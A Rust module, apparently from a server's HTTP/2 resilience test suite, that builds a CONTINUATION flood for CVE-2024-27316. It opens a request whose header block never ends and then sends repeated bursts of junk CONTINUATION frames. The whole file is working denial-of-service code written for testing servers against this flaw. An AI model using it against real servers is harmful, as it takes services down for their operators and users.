//! CVE-2024-27316 and its kin: a header block that never ends.

use super::{Attack, HOST};
use crate::support::h2::{frame, hpack};

const FRAMES: u32 = 16;
const FIELDS: u32 = 32;

pub(super) fn attack() -> Attack {
    let mut opening = frame::opening(&[]);
    frame::push(&mut opening, frame::HEADERS, frame::END_STREAM, 1, &hpack::get("/", HOST));
    Attack::flood("CONTINUATION flood", opening, burst)
}

fn burst(number: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in 0..FRAMES {
        let mut block = Vec::new();
        for field in 0..FIELDS {
            hpack::push_literal(&mut block, &format!("x-{number}-{piece}-{field}"), "some value that is of no use");
        }
        frame::push(&mut out, frame::CONTINUATION, 0, 1, &block);
    }
    out
}
